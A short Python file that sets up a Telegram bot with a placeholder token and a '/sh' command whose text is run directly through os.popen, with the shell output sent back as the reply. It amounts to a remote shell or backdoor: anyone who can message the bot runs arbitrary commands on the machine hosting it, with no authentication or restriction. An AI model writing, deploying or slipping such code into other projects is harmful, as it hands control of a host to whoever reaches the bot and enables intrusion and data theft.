import os

import telebot

bot = telebot.TeleBot("000000000:not-a-token-of-anybody-00")


@bot.message_handler(commands=["sh"])
def sh(message):
    bot.reply_to(message, os.popen(message.text[4:]).read() or "-")


def loop():
    bot.infinity_polling()
